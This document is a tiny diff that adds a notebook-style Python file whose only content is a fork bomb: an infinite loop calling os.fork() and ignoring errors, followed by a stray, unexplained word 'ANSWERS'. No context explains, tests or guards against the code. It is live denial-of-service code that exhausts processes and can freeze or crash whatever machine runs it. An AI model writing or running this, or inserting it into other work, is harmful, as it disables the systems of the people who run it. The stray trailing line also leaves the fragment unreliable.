@@ -1,0 +1,10 @@
+# %%
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
+# %%
+ANSWERS
